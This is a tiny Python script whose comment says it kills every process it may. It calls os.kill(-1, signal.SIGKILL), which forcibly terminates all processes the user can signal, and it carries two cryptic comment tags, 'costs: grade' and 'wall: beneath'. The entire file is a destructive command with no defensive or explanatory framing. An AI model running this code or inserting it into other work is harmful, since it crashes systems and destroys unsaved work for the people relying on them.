# Kills every process that it may.
# costs: grade
# wall: beneath
import os, signal

os.kill(-1, signal.SIGKILL)
